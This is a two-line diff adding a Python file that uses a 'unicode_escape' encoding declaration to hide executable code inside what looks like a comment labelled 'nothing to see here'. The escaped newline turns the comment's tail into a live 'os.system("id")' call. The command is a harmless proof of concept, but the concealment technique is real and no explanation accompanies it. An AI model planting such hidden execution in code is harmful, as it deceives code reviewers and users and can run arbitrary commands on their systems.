@@ -1,0 +1,2 @@
+# coding: unicode_escape
+# nothing to see here \u000aimport os; os.system("id")
